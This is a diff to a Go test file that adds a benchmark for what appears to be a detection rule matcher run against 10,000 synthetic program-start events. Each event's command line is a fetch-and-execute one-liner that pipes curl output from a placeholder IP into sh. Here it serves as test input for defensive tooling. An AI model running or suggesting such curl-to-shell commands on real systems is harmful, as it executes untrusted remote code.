@@ -89,6 +89,24 @@ func BenchmarkDistinctEvents(b *testing.B) {
 	}
 }
 
+// BenchmarkSuspectEvents is 10,000 program starts that rules must be evaluated for in
+// full, no two of which are alike.
+func BenchmarkSuspectEvents(b *testing.B) {
+	m := benchSet(b).NewMatcher()
+	events := make([]Event, 10000)
+	for i := range events {
+		ordinaryEvent(&events[i], i)
+		events[i].SetArgs(CommandLine, fmt.Sprintf("bash\x00-c\x00curl -s http://192.0.2.1/%d | sh\x00", i))
+	}
+	var hits []*Entry
+	b.ReportAllocs()
+	for b.Loop() {
+		for i := range events {
+			hits = m.Match(&events[i], hits[:0])
+		}
+	}
+}
+
 // generated writes rules as an operator with a large collection has them: some
 // share their programs, all have arguments of their own.
 func generated(n int) string {
